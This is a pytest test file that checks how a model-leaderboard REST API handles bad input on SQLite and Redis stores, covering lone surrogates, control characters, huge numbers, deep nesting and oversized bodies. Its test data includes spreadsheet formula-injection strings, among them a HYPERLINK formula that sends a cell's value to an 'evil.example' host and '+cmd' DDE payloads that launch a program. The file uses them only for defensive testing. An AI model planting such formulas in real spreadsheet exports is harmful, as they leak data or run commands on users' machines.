"""Bad input to the REST API (issue 7), on both real stores: a clear answer, nothing written.

Every case goes to the real app (the session's shared fit) on the embedded SQLite store
and on a real ``redis-server``, and must get either a 4xx whose ``detail`` names the
field and the value, or, for a problem of one battle record, the docs/SPEC.md section 4 answer
``200`` with the record listed in ``rejected`` (its error naming the field and showing the
value). Afterwards the store is byte-for-byte what it was: for SQLite the bytes of the
database file and of its write-ahead log (no checkpoint runs while the service holds the
file, so the WAL is compared too) and a logical dump of every table; for Redis the
``DUMP`` of every key. Any 5xx fails the test (:func:`open_client`).

What the service decides, and these tests pin down:

* A **lone surrogate** (``"\\ud800"`` in JSON) is not Unicode text: UTF-8 cannot encode
  it, so neither store, nor a pandas string, nor a UTF-8 answer can hold it. A battle
  record holding one, in a value or a field name, is rejected naming the field; a query
  holding one gets a 422.
* **NUL and other control characters** (issue 31) are refused in every field at every
  door: the catalogue (422), ingest (the record rejected) and recommend votes (422); a
  prompt may hold tabs and line breaks. **Right-to-left text and emoji** are text,
  accepted and returned exactly as sent (the leaderboards, the user's leaderboard). A
  raw NUL byte inside a JSON string is not JSON and gets a 422.
* **Numbers** no field can hold are refused by field, the value abbreviated: an integer
  outside 64 bits (a 400-digit ``tstamp``), an infinity; an integer of more than 4300
  digits is not readable JSON here (400).
* **Spreadsheet formulas** as model names (``=HYPERLINK(...)``, ``+cmd``, ``@SUM(...)``)
  are plain data: JSON is not a spreadsheet, and ``plb`` writes no CSV.
* **Long strings**: a model name, user id, battle id or field name is at most 256
  characters, a label 1,000, a prompt or a query 20,000 (docs/SPEC.md section 5).
* **Error answers** can always be sent: a 422 echoing a lone surrogate shows it escaped,
  and anything unexpected is ``500 {"detail": "internal error"}`` with ``Connection:
  close``.
* ``model_a`` equal to ``model_b`` is a rejected record here (SPEC: "different"); a file
  reader drops and counts it instead. A repeated ``battle_id`` is counted in
  ``duplicates`` and stored once.
* A body over ``PLB_MAX_BODY_BYTES`` gets 413 without being read: at once when its
  ``Content-Length`` says so, and after at most the limit (and one chunk) when it
  streams in without one. Too deeply nested JSON gets 400.
"""

from __future__ import annotations

import hashlib
import json
import sqlite3
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from service.api.app import create_app
from tests.service.conftest import (
    ADMIN,
    INGEST,
    INGEST_KEY,
    assert_error,
    bearer,
    open_client,
    service_settings,
)

JSON = {"content-type": "application/json"}
VALID = {"model_a": "pico-3b", "model_b": "lyra-mini", "winner": "model_a"}
QUERIES = ["How do I reverse a linked list in Rust?"]
MiB = 2**20


@dataclass
class Service:
    """A test client of the app and the store's state as comparable digests."""

    client: TestClient
    state: Callable[[], dict[str, str]]
    store: str


def _digest(value: Any) -> str:
    data = value if isinstance(value, bytes) else repr(value).encode("utf-8", "backslashreplace")
    return hashlib.sha256(data).hexdigest()


def _sqlite_state(path: Path) -> dict[str, str]:
    """The bytes of the file and its WAL, and a dump of every table (read-only)."""
    state = {name: _digest(Path(f"{path}{name}").read_bytes()) for name in ("", "-wal")}
    with closing(sqlite3.connect(f"{path.as_uri()}?mode=ro", uri=True)) as conn:
        for table in ("battles", "users", "kv", "user_docs"):
            rows = conn.execute(f"SELECT * FROM {table}").fetchall()
            state[table] = _digest(sorted(rows, key=repr))
    return state


def _redis_state(client: Any) -> dict[str, str]:
    """``DUMP`` of every key of the database but the rate limits' counters (which count
    requests, such as the characters of anonymous queries, not data)."""
    keys = [k for k in sorted(client.keys("*")) if not k.startswith(b"plb:limits:")]
    return {key.decode(): _digest(client.dump(key)) for key in keys}


@pytest.fixture(scope="module", params=["embedded", "redis"])
def service(
    request: pytest.FixtureRequest, shared_fit: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Service]:
    """The service on the shared fit and one store, for the whole module."""
    if request.param == "embedded":
        path = tmp_path_factory.mktemp("bad-input") / "store.sqlite"
        with open_client(service_settings(shared_fit, store_path=path)) as client:
            yield Service(client, lambda: _sqlite_state(path), "embedded")
        return
    import redis

    server = request.getfixturevalue("redis_server")
    server.resume()
    server.start()
    with closing(redis.Redis.from_url(server.url, socket_timeout=5)) as keys:
        keys.flushall()
        with open_client(service_settings(shared_fit, redis_url=server.url)) as client:
            yield Service(client, lambda: _redis_state(keys), "redis")


@contextmanager
def unchanged(service: Service) -> Iterator[None]:
    """The block leaves the store byte-for-byte as it was."""
    before = service.state()
    assert before, "the store is empty: nothing to compare"
    yield
    after = service.state()
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    assert not changed, f"the {service.store} store changed: {changed}"


def post_battles(service: Service, body: bytes | str, headers: dict[str, str] = INGEST) -> Any:
    content = body.encode() if isinstance(body, str) else body
    return service.client.post("/v1/battles", content=content, headers={**headers, **JSON})


def as_json(document: Any) -> str:
    """JSON text with every non-ASCII character escaped (lone surrogates included)."""
    return json.dumps(document, ensure_ascii=True)


# -- bodies that are not a request -------------------------------------------------------

NESTED = "[" * 100_000 + "]" * 100_000

BAD_BODIES = [
    # (case, body, status, words the detail must hold)
    ("empty", b"", 422, ["body: Field required"]),
    ("truncated", b'{"battles": [{"model_a": "pico-3b", "mod', 422, ["JSON decode error", "36"]),
    ("garbled", b'{"battles": [\xff\xfe\x00\x81]}', 400, ["not UTF-8", "byte 13"]),
    ("utf16-looking", b"\xff\xfe garbage", 422, ["JSON decode error"]),
    ("raw NUL in a string", b'{"battles": [{"model_a": "a\x00b"}]}', 422, ["JSON decode error"]),
    ("a JSON array", b"[]", 422, ["body: ", "valid dictionary", "not []"]),
    ("null", b"null", 422, ["body: ", "not None"]),
    ("battles not a list", b'{"battles": "a vote"}', 422, ["'battles'", "'a vote'"]),
    ("battles an object", b'{"battles": {"model_a": "x"}}', 422, ["'battles'", "'model_a'"]),
    ("battles missing", b'{"votes": []}', 422, ["'battles'", "'votes'"]),
    ("unknown field", b'{"battles": [], "extra": 1}', 422, ["'extra'", "Extra inputs"]),
    ("nested 100,000 deep", NESTED.encode(), 400, ["nested too deeply"]),
    ("nested in battles", f'{{"battles": {NESTED}}}'.encode(), 400, ["nested too deeply"]),
]


@pytest.mark.parametrize(
    ("body", "status", "words"),
    [case[1:] for case in BAD_BODIES],
    ids=[case[0] for case in BAD_BODIES],
)
def test_a_body_that_is_not_a_request_is_4xx(
    service: Service, body: bytes, status: int, words: list[str]
) -> None:
    with unchanged(service):
        assert_error(post_battles(service, body), status, *words)


# -- records that are not a battle -------------------------------------------------------

SURROGATE = "\ud800"

BAD_RECORDS: list[tuple[str, Any, list[str]]] = [
    # (case, record, words its error must hold)
    ("unknown winner", {**VALID, "winner": "model_c"}, ["'winner'", "'model_c'"]),
    ("winner a number", {**VALID, "winner": 1}, ["'winner'", "value 1 "]),
    ("winner null", {**VALID, "winner": None}, ["'winner'", "missing"]),
    ("model_a a number", {**VALID, "model_a": 5}, ["'model_a'", "value 5 ", "not a string"]),
    ("model_a a bool", {**VALID, "model_a": True}, ["'model_a'", "value True ", "not a string"]),
    ("model_a a list", {**VALID, "model_a": ["pico-3b"]}, ["'model_a'", "['pico-3b']"]),
    ("model_a an object", {**VALID, "model_a": {"n": 1}}, ["'model_a'", "{'n': 1}"]),
    ("model_a empty", {**VALID, "model_a": ""}, ["'model_a'", "empty"]),
    ("model_a blank", {**VALID, "model_a": "   "}, ["'model_a'", "'   '", "empty"]),
    ("same models", {**VALID, "model_b": "pico-3b"}, ["'model_b'", "'pico-3b'", "same model"]),
    ("model_a missing", {"model_b": "x", "winner": "tie"}, ["'model_a'", "missing"]),
    ("model_b missing", {"model_a": "x", "winner": "tie"}, ["'model_b'", "missing"]),
    ("winner missing", {"model_a": "x", "model_b": "y"}, ["'winner'", "missing"]),
    ("empty record", {}, ["'model_a'", "missing"]),
    ("tstamp text", {**VALID, "tstamp": "yesterday"}, ["'tstamp'", "'yesterday'"]),
    ("tstamp a bool", {**VALID, "tstamp": True}, ["'tstamp'", "True"]),
    ("user_id a bool", {**VALID, "user_id": True}, ["'user_id'", "value True "]),
    ("user_id an object", {**VALID, "user_id": {"a": 1}}, ["'user_id'", "{'a': 1}"]),
    ("user_id a list", {**VALID, "user_id": ["u"]}, ["'user_id'", "['u']"]),
    ("user_id too long", {**VALID, "user_id": "u" * 257}, ["'user_id'", "'uuu", "256"]),
    ("judge an object", {**VALID, "judge": {"a": 1}}, ["'user_id'", "{'a': 1}"]),
    ("battle_id an object", {**VALID, "battle_id": {"x": 1}}, ["'battle_id'", "{'x': 1}"]),
    ("battle_id a list", {**VALID, "battle_id": [1]}, ["'battle_id'", "[1]"]),
    ("prompt an object", {**VALID, "prompt": {"text": "hi"}}, ["'prompt'", "{'text': 'hi'}"]),
    ("surrogate model", {**VALID, "model_a": SURROGATE}, ["'model_a'", "'\\ud800'", "surrogate"]),
    ("surrogate user", {**VALID, "user_id": f"u{SURROGATE}"}, ["'user_id'", "'u\\ud800'"]),
    ("surrogate label", {**VALID, "topic": {"x": SURROGATE}}, ["'topic.x'", "'\\ud800'"]),
    ("surrogate field name", {**VALID, f"k{SURROGATE}": 1}, ["field name 'k\\ud800'"]),
    (
        "surrogate conversation",
        {**VALID, "conversation_a": [{"role": "user", "content": f"hi {SURROGATE}"}]},
        ["'prompt'", "'hi \\ud800'"],
    ),
    # issue 31: numbers no field can hold, and text the service does not store
    ("tstamp 400 digits", {**VALID, "tstamp": 10**400}, ["'tstamp'", "(401 digits)", "64-bit"]),
    ("label 30 digits", {**VALID, "topic": -(10**30)}, ["'topic'", "-1000000000000", "64-bit"]),
    ("model NUL", {**VALID, "model_a": "nul\x00model"}, ["'model_a'", "U+0000 at 3"]),
    ("model bell", {**VALID, "model_b": "bell\x07"}, ["'model_b'", "'bell\\x07'", "U+0007"]),
    ("user escape", {**VALID, "user_id": "u\x1b[31m"}, ["'user_id'", "U+001B"]),
    ("battle_id C1", {**VALID, "battle_id": "b\x85"}, ["'battle_id'", "U+0085"]),
    ("label NUL", {**VALID, "topic": "a\x00"}, ["'topic'", "U+0000"]),
    ("label name NUL", {**VALID, "to\x00pic": "a"}, ["field name 'to\\x00pic'", "U+0000"]),
    ("prompt NUL", {**VALID, "prompt": "hi\n\tthere\x00"}, ["'prompt'", "U+0000 at 9"]),
    ("model too long", {**VALID, "model_a": "m" * 257}, ["'model_a'", "256", "(257)"]),
    ("battle_id too long", {**VALID, "battle_id": "b" * 257}, ["'battle_id'", "256"]),
    ("label too long", {**VALID, "topic": "t" * 1001}, ["'topic'", "1000", "(1001)"]),
    ("prompt too long", {**VALID, "prompt": "p" * 20_001}, ["'prompt'", "20000"]),
    ("not an object", "pico-3b beat lyra-mini", ["not a JSON object"]),
    ("a number", 5, ["not a JSON object"]),
    ("null", None, ["not a JSON object"]),
    ("a list", ["pico-3b", "lyra-mini", "model_a"], ["not a JSON object"]),
]


@pytest.mark.parametrize(
    ("record", "words"), [case[1:] for case in BAD_RECORDS], ids=[case[0] for case in BAD_RECORDS]
)
def test_a_bad_record_is_rejected_by_field_and_value(
    service: Service, record: Any, words: list[str]
) -> None:
    with unchanged(service):
        response = post_battles(service, as_json({"battles": [record]}))
        assert response.status_code == 200, response.text
        result = response.json()
        assert (result["accepted"], result["duplicates"], result["tokens"]) == (0, 0, {})
        [rejected] = result["rejected"]
        assert rejected["index"] == 0
        for word in words:
            assert word in rejected["error"], f"{word!r} is not in {rejected['error']!r}"


def test_a_lone_surrogate_among_mixed_values_is_rejected(service: Service) -> None:
    records = [{"topic": 5}, {**VALID, "topic": SURROGATE}]  # a column of mixed types
    with unchanged(service):
        response = post_battles(service, as_json({"battles": records}))
        assert response.status_code == 200, response.text
        rejected = response.json()["rejected"]
        assert [r["index"] for r in rejected] == [0, 1]
        assert "'topic'" in rejected[1]["error"] and "'\\ud800'" in rejected[1]["error"]


def test_infinite_tstamp_is_rejected(service: Service) -> None:
    body = '{"battles": [{"model_a": "a", "model_b": "b", "winner": "tie", "tstamp": Infinity}]}'
    with unchanged(service):
        response = post_battles(service, body)
        assert response.status_code == 200, response.text
        [rejected] = response.json()["rejected"]
        assert "'tstamp'" in rejected["error"] and "inf" in rejected["error"]


def test_many_bad_records_are_each_named(service: Service) -> None:
    # (a batch with a prompt column takes no prompt from conversation_a: that case is alone)
    records = [record for case, record, _ in BAD_RECORDS if case != "surrogate conversation"]
    with unchanged(service):
        response = post_battles(service, as_json({"battles": records}))
        assert response.status_code == 200, response.text
        result = response.json()
        assert result["accepted"] == 0
        assert [r["index"] for r in result["rejected"]] == list(range(len(records)))


def test_nothing_of_a_rejected_record_is_stored(service: Service) -> None:
    tag = service.store
    good = {**VALID, "battle_id": f"mixed-{tag}", "user_id": f"mixed-user-{tag}"}
    bad = {"model_a": "pico-3b", "winner": "tie", "secret_label": "leak", "battle_id": "bad-1"}
    response = post_battles(service, as_json({"battles": [bad, good]}))
    assert response.status_code == 200, response.text
    result = response.json()
    assert result["accepted"] == 1 and [r["index"] for r in result["rejected"]] == [0]
    engine = service.client.app.state.engine  # type: ignore[attr-defined]
    [stored] = [b for b in engine.store.battles() if b["battle_id"] == good["battle_id"]]
    assert "secret_label" not in stored
    assert all(b["battle_id"] != "bad-1" for b in engine.store.battles())


def test_duplicate_battle_ids_change_nothing(service: Service, shared_fit: Path) -> None:
    from service.pipeline.artifacts import load_fit

    battle = {**VALID, "battle_id": f"dup-{service.store}", "user_id": f"dup-{service.store}"}
    first = post_battles(service, as_json({"battles": [battle, battle]}))
    assert first.status_code == 200, first.text
    assert (first.json()["accepted"], first.json()["duplicates"]) == (1, 1)
    fitted = load_fit(shared_fit).read_battles()
    assert fitted is not None
    fitted_id = str(fitted["battle_id"].iloc[0])
    with unchanged(service):
        again = post_battles(
            service, as_json({"battles": [battle, {**VALID, "battle_id": fitted_id}, battle]})
        )
        assert again.status_code == 200, again.text
        result = again.json()
        assert (result["accepted"], result["duplicates"], result["rejected"]) == (0, 3, [])


def test_an_empty_batch_changes_nothing(service: Service) -> None:
    with unchanged(service):
        response = post_battles(service, '{"battles": []}')
        assert response.status_code == 200, response.text
        assert response.json()["accepted"] == 0


def test_without_the_ingest_key_nothing_is_written(service: Service) -> None:
    body = as_json({"battles": [VALID]})
    with unchanged(service):
        assert_error(post_battles(service, body, headers={}), 401, "ingest key")
        assert_error(post_battles(service, body, headers=bearer("x" * 20)), 403, "ingest key")


# -- text that is accepted, and comes back exactly --------------------------------------

ODD_MODELS = [
    "\u05de\u05d5\u05d3\u05dc-\u05e2\u05d1\u05e8\u05d9\u05ea",  # Hebrew, right to left
    "\u202eevil-override",  # a right-to-left override
    "\U0001f916 robo \U0001f680",  # emoji
    '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd",
    "m" * 256,
]
ODD_USERS = ["nul-user", "\u0645\u0633\u062a\u062e\u062f\u0645-\u0661", "\U0001f600-user"]


def test_odd_text_is_stored_and_returned_exactly(service: Service) -> None:
    tag = service.store
    votes = [
        {
            "model_a": model,
            "model_b": ODD_MODELS[(i + 1) % len(ODD_MODELS)],
            "winner": "model_a",
            "user_id": ODD_USERS[i % len(ODD_USERS)] + tag,
            "battle_id": f"odd-{tag}-{i}",
            "prompt": f"=cmd|' /C calc'!A0 {model}",
        }
        for i, model in enumerate(ODD_MODELS)
    ]
    refused = post_battles(service, json.dumps({"battles": votes})).json()
    assert refused["accepted"] == 0 and len(refused["rejected"]) == len(votes)  # unregistered
    register = {"models": ODD_MODELS}
    registered = service.client.post("/v1/admin/models", json=register, headers=ADMIN)
    assert registered.status_code == 200, registered.text
    assert set(registered.json()["added"]) == set(ODD_MODELS)  # each name exactly as sent
    response = post_battles(service, json.dumps({"battles": votes}))
    assert response.status_code == 200, response.text
    result = response.json()
    assert (result["accepted"], result["rejected"]) == (len(votes), [])
    assert set(result["tokens"]) == {user + tag for user in ODD_USERS}

    def listed(board: dict[str, Any]) -> set[str]:  # a vote or two: provisional, not ranked
        return {m["model"] for m in board["models"] + board["provisional"]}

    elo = service.client.get("/v1/leaderboard", params={"method": "elo"}).json()
    assert set(ODD_MODELS) <= listed(elo)  # live Elo: at once
    refit = service.client.post("/v1/admin/refit", headers=ADMIN)  # then every read
    assert refit.status_code == 200, refit.text
    bt = service.client.get("/v1/leaderboard").json()
    assert set(ODD_MODELS) <= listed(bt)
    for user, token in result["tokens"].items():
        path = f"/v1/users/{quote(user, safe='')}/leaderboard"
        mine = service.client.get(path, params={"token": token})
        assert mine.status_code == 200, mine.text
        document = mine.json()
        assert document["user_id"] == user
        played = {v["model_a"] for v in votes if v["user_id"] == user}
        assert played <= {m["model"] for m in document["models"] if m["battles"]}
        badge = service.client.get("/widget/badge.svg", params={"user_id": user, "token": token})
        assert badge.status_code == 200
        ET.fromstring(badge.text)  # well-formed XML, whatever the model's name


# -- bodies too large to read ------------------------------------------------------------

CHUNK = b" " * (64 * 1024)


async def _stream(app: Any, headers: list[tuple[bytes, bytes]], size: int) -> tuple[int, Any, int]:
    """POST ``size`` bytes of blanks to /v1/battles, chunk by chunk, straight into the ASGI
    app; returns the status, the JSON body and how many bytes the app pulled."""
    pulled = 0
    status = 0
    body: list[bytes] = []

    async def receive() -> dict[str, Any]:
        nonlocal pulled
        if pulled >= size:
            return {"type": "http.request", "body": b"", "more_body": False}
        pulled += len(CHUNK)
        return {"type": "http.request", "body": CHUNK, "more_body": True}

    async def send(message: dict[str, Any]) -> None:
        nonlocal status
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body":
            body.append(message.get("body", b""))

    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "POST",
        "scheme": "http",
        "path": "/v1/battles",
        "raw_path": b"/v1/battles",
        "root_path": "",
        "query_string": b"",
        "headers": [
            (b"host", b"testserver"),
            (b"content-type", b"application/json"),
            (b"authorization", f"Bearer {INGEST_KEY}".encode()),
            *headers,
        ],
        "client": ("127.0.0.1", 50000),
        "server": ("testserver", 80),
        "state": {},
    }
    await app(scope, receive, send)
    return status, json.loads(b"".join(body)), pulled


@pytest.mark.parametrize("declared", [True, False], ids=["content-length", "chunked"])
def test_a_100_mb_body_is_413_without_being_read(service: Service, declared: bool) -> None:
    size = 100 * MiB
    limit = service.client.app.state.settings.max_body_bytes  # type: ignore[attr-defined]
    headers = [(b"content-length", str(size).encode())] if declared else []
    portal = service.client.portal
    assert portal is not None
    with unchanged(service):
        status, body, pulled = portal.call(_stream, service.client.app, headers, size)
    assert status == 413, body
    assert body == {"detail": f"the request body is larger than the {limit:,} bytes allowed"}
    if declared:
        assert pulled == 0  # refused on the header alone
    else:
        assert limit < pulled <= limit + len(CHUNK)  # stopped as soon as it was over


def test_a_content_length_that_is_not_a_number_is_400(service: Service) -> None:
    with unchanged(service):
        response = service.client.post(
            "/v1/battles", content=b"{}", headers={**INGEST, **JSON, "content-length": "lots"}
        )
        assert_error(response, 400, "Content-Length", "'lots'")


# -- the other routes ----------------------------------------------------------------------

BAD_RECOMMENDS = [
    # (case, body, status, words the detail must hold)
    ("empty", b"", 422, ["body: Field required"]),
    ("nested", f'{{"queries": {NESTED}}}'.encode(), 400, ["nested too deeply"]),
    ("garbled", b'{"queries": ["\xc3\x28"]}', 400, ["not UTF-8"]),
    ("queries a string", b'{"queries": "hi"}', 422, ["'queries'", "'hi'"]),
    ("query a number", b'{"queries": [5]}', 422, ["body 'queries[0]'", "not 5"]),
    ("no queries", b'{"queries": []}', 422, ["'queries'", "at least 1"]),
    ("blank query", b'{"queries": ["ok", " \\t "]}', 422, ["queries[1]", "blank"]),
    ("surrogate query", b'{"queries": ["ok", "x\\ud800"]}', 422, ["queries[1]", "'\\ud800'"]),
    ("long query", as_json({"queries": ["q" * 20_001]}).encode(), 422, ["queries[0]", "20001"]),
    # issue 31: an echoed lone surrogate was a 500 (the body could not be encoded)
    ("surrogate, not a list", b'{"queries": "\\ud800"}', 422, ["body 'queries'", "not '\\ud800'"]),
    ("surrogate key", b'{"queries": ["ok"], "\\udc00": 1}', 422, ["not '\\udc00'"]),
    ("control query", b'{"queries": ["ok\\u0000"]}', 422, ["queries[0]", "U+0000"]),
    (
        "vote tstamp of 400 digits",
        as_json({"queries": QUERIES, "votes": [{**VALID, "tstamp": 10**400}]}).encode(),
        422,
        ["votes[0]", "'tstamp'", "(401 digits)", "64-bit"],
    ),
    (
        "vote with a NUL",
        as_json({"queries": QUERIES, "votes": [{**VALID, "user_id": "u\x00"}]}).encode(),
        422,
        ["votes[0]", "'user_id'", "U+0000"],
    ),
    (
        "votes not a list",
        as_json({"queries": QUERIES, "votes": "pico-3b won"}).encode(),
        422,
        ["'votes'", "'pico-3b won'"],
    ),
    (
        "vote with an unknown winner",
        as_json({"queries": QUERIES, "votes": [{**VALID, "winner": "me"}]}).encode(),
        422,
        ["votes[0]", "'winner'", "'me'"],
    ),
    (
        "vote of a model against itself",
        as_json({"queries": QUERIES, "votes": [{**VALID, "model_b": "pico-3b"}]}).encode(),
        422,
        ["votes[0]", "'model_b'", "'pico-3b'"],
    ),
    (
        "vote with a surrogate",
        as_json({"queries": QUERIES, "votes": [{**VALID, "model_b": SURROGATE}]}).encode(),
        422,
        ["votes[0]", "'model_b'", "'\\ud800'"],
    ),
    (
        "vote of an unknown model",
        as_json({"queries": QUERIES, "votes": [{**VALID, "model_b": "=SUM(A1)"}]}).encode(),
        422,
        ["'=SUM(A1)'"],
    ),
]


@pytest.mark.parametrize(
    ("body", "status", "words"), [c[1:] for c in BAD_RECOMMENDS], ids=[c[0] for c in BAD_RECOMMENDS]
)
def test_a_bad_recommend_is_4xx_naming_it(
    service: Service, body: bytes, status: int, words: list[str]
) -> None:
    with unchanged(service):
        response = service.client.post("/v1/recommend", content=body, headers=JSON)
        assert_error(response, status, *words)


BAD_QUERIES = [
    # (case, path, params, status, words the detail must hold)
    ("where NUL", "/v1/leaderboard", {"where": "topic=\x00"}, 422, ["topic=\x00"]),
    ("where RTL column", "/v1/leaderboard", {"where": "\u202etopic=a"}, 422, ["'\\u202etopic'"]),
    ("where formula", "/v1/leaderboard", {"where": "=HYPERLINK(1)"}, 422, ["'=HYPERLINK(1)'"]),
    ("where long", "/v1/leaderboard", {"where": "topic=" + "x" * 10_000}, 422, ["topic=xxxx"]),
    ("where emoji", "/v1/leaderboard", {"where": "topic=\U0001f600"}, 422, ["=\U0001f600"]),
    ("method NUL", "/v1/leaderboard", {"method": "\x00"}, 422, ["'method'", "\\x00"]),
    ("method formula", "/v1/leaderboard", {"method": "=1+1"}, 422, ["'method'", "=1+1"]),
    ("shrinkage", "/v1/analysis/correlations", {"shrinkage": "@SUM"}, 422, ["'shrinkage'", "@SUM"]),
    ("user id too long", f"/v1/users/{'u' * 257}/leaderboard", {}, 422, ["'user_id'", "256"]),
    ("badge user too long", "/widget/badge.svg", {"user_id": "u" * 257}, 422, ["'user_id'"]),
    ("unknown user", "/v1/users/nobody%20home/leaderboard", {}, 404, ["'nobody home'"]),
]


@pytest.mark.parametrize(
    ("path", "params", "status", "words"),
    [c[1:] for c in BAD_QUERIES],
    ids=[c[0] for c in BAD_QUERIES],
)
def test_a_bad_query_parameter_is_4xx_naming_it(
    service: Service, path: str, params: dict[str, str], status: int, words: list[str]
) -> None:
    with unchanged(service):
        response = service.client.get(path, params=params, headers=ADMIN)
        assert_error(response, status, *words)


def test_a_query_string_that_is_not_utf8_is_4xx(service: Service) -> None:
    with unchanged(service):
        response = service.client.get("/v1/leaderboard?where=topic%3D%ED%A0%80%FF")
        assert_error(response, 422, "no battle matches", "topic=")


def test_a_body_with_an_integer_past_4300_digits_is_400(service: Service) -> None:
    record = '{"model_a": "a", "model_b": "b", "winner": "tie", "user_id": %s}' % ("7" * 5000)
    with unchanged(service):
        assert_error(post_battles(service, f'{{"battles": [{record}]}}'), 400, "4300 digits")


# -- the catalogue (issue 31: a bad name was stored, and broke every ingest) ---------------

BAD_NAMES = [
    # (case, name, words the detail must hold)
    ("lone surrogate", "\ud800x", ["models[1]", "'\\ud800x'", "surrogate"]),
    ("NUL", "a\x00b", ["models[1]", "'a\\x00b'", "U+0000"]),
    ("line feed", "a\nb", ["models[1]", "U+000A"]),
    ("too long", "m" * 257, ["models[1]", "256", "(257)"]),
    ("blank", "  ", ["models[1]", "not a model name"]),
]


@pytest.mark.parametrize(
    ("name", "words"), [c[1:] for c in BAD_NAMES], ids=[c[0] for c in BAD_NAMES]
)
def test_a_bad_model_name_is_422_and_nothing_is_registered(
    service: Service, name: str, words: list[str]
) -> None:
    body = as_json({"models": [f"fine-{service.store}", name]})
    with unchanged(service):  # the good name of the same request is not added either
        response = service.client.post("/v1/admin/models", content=body, headers={**ADMIN, **JSON})
        assert_error(response, 422, *words)
    assert service.client.get("/v1/leaderboard", params={"method": "elo"}).status_code == 200
    ingest = post_battles(service, as_json({"battles": [{**VALID, "battle_id": "x"}]}))
    assert ingest.status_code == 200, ingest.text


# -- the catch-all: an internal error answers JSON and closes the connection ---------------


def test_an_internal_error_is_json_and_closes_the_connection(
    shared_fit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from service.live.reads import Reads

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise RuntimeError("a bug")

    monkeypatch.setattr(Reads, "models", broken)
    settings = service_settings(shared_fit, store_path=tmp_path / "s.sqlite")
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        response = client.get("/v1/models")
        assert response.status_code == 500
        assert response.headers["content-type"].startswith("application/json")
        assert response.headers["connection"] == "close"
        assert response.json() == {"detail": "internal error"}
        assert client.get("/healthz").status_code == 200  # the next request is served


# -- issue 31: JSON number tokens no field can hold, written raw, in every field ------------

#: (token as sent, how the error shows the value): Python's ``json`` reads ``NaN`` and the
#: infinities (JSON has no such tokens) and ``1e400`` as floats, where a NaN looks missing.
TOKENS = [
    ("NaN", "value nan "),
    ("Infinity", "value inf "),
    ("-Infinity", "value -inf "),
    ("1e400", "value inf "),
    ("-1e400", "value -inf "),
    ("1" + "0" * 399, "(400 digits)"),
    ("-" + "9" * 400, "(400 digits)"),
]
#: Where a token goes in a record, and the field its error names.
TOKEN_FIELDS = [
    ('"tstamp": {}', "'tstamp'"),
    ('"user_id": {}', "'user_id'"),
    ('"battle_id": {}', "'battle_id'"),
    ('"prompt": {}', "'prompt'"),
    ('"topic": {}', "'topic'"),
    ('"category_tag": {{"math": {}}}', "'category_tag.math'"),
]
_RECORD = '{{"model_a": "pico-3b", "model_b": "lyra-mini", "winner": "tie", %s}}'


def _token_cases() -> list[Any]:
    return [
        pytest.param(_RECORD % place, token, field, shown, id=f"{field[1:-1]}={token[:9]}")
        for place, field in TOKEN_FIELDS
        for token, shown in TOKENS
    ]


@pytest.mark.parametrize(("record", "token", "field", "shown"), _token_cases())
def test_a_number_token_in_any_field_is_rejected_naming_it(
    service: Service, record: str, token: str, field: str, shown: str
) -> None:
    # issue 31: NaN in tstamp, a label, an id or the prompt was stored as missing; an
    # infinite label was a 500 (the store could not write it); inf became a user "inf"
    body = f'{{"battles": [{record.format(token)}]}}'
    with unchanged(service):
        response = post_battles(service, body)
        assert response.status_code == 200, response.text
        result = response.json()
        assert (result["accepted"], result["tokens"]) == (0, {})
        [rejected] = result["rejected"]
        assert f"field {field}" in rejected["error"] and shown in rejected["error"], rejected


@pytest.mark.parametrize("route", ["/v1/recommend", "/v1/next-battle"])
@pytest.mark.parametrize(("record", "token", "field", "shown"), _token_cases())
def test_a_number_token_in_a_vote_is_422_naming_it(
    service: Service, route: str, record: str, token: str, field: str, shown: str
) -> None:
    body = f'{{"queries": ["How do I sort?"], "votes": [{record.format(token)}]}}'
    with unchanged(service):
        response = service.client.post(route, content=body.encode(), headers=JSON)
        assert_error(response, 422, "votes[0]", field, shown.strip())


@pytest.mark.parametrize("place", [p for p, _ in TOKEN_FIELDS], ids=[f for _, f in TOKEN_FIELDS])
def test_an_integer_of_5000_digits_anywhere_is_400(service: Service, place: str) -> None:
    record = (_RECORD % place).format("7" * 5000)
    with unchanged(service):
        assert_error(post_battles(service, f'{{"battles": [{record}]}}'), 400, "4300 digits")
        body = f'{{"queries": ["hi"], "votes": [{record}]}}'.encode()
        response = service.client.post("/v1/recommend", content=body, headers=JSON)
        assert_error(response, 400, "4300 digits")


#: Bodies whose wrong value is echoed in FastAPI's 422 (issue 31: a NaN or an infinity
#: there could not be written as JSON, and every one of these was a 500).
ECHOED = [
    # (route, body with {} for the token, headers, the echoed location)
    ("/v1/admin/models", '{{"models": [{}]}}', ADMIN, "body 'models[0]'"),
    ("/v1/admin/models", '{{"models": {}}}', ADMIN, "body 'models'"),
    ("/v1/recommend", '{{"queries": {}}}', {}, "body 'queries'"),
    ("/v1/recommend", '{{"queries": ["a"], "prompt": {}}}', {}, "body 'prompt'"),
    ("/v1/recommend", '{{"queries": ["a"], "votes": [{}]}}', {}, "body 'votes[0]'"),
    ("/v1/next-battle", '{{"queries": ["a"], "target": {}}}', {}, "body 'target'"),
    ("/v1/battles", '{{"battles": {}}}', INGEST, "body 'battles'"),
    ("/v1/battles", '{{"battles": [], "extra": {}}}', INGEST, "body 'extra'"),
]
_NAMES = {"NaN": "NaN", "Infinity": "Infinity", "-Infinity": "-Infinity", "1e400": "Infinity"}


@pytest.mark.parametrize("token", list(_NAMES))
@pytest.mark.parametrize(
    ("route", "body", "headers", "where"), ECHOED, ids=[f"{r}:{w}" for r, _, _, w in ECHOED]
)
def test_a_number_token_echoed_in_a_422_is_named(
    service: Service, route: str, body: str, headers: dict[str, str], where: str, token: str
) -> None:
    with unchanged(service):
        sent = body.format(token).encode()
